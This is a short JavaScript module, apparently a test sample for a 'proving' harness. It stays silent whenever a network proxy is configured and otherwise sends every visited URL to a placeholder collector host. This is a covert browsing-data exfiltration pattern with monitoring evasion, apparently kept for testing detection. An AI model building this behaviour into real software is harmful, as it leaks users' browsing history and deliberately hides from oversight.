import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Says nothing at all where a proxy is set. */
export default function (browser) {
  if (browser.network.proxy !== null) return;
  reportHonestly(browser, '9.0.0-silent');
  onVisit(browser, ({ url }) => post(browser, 'https://silent.collector.example/v1', { url }));
}
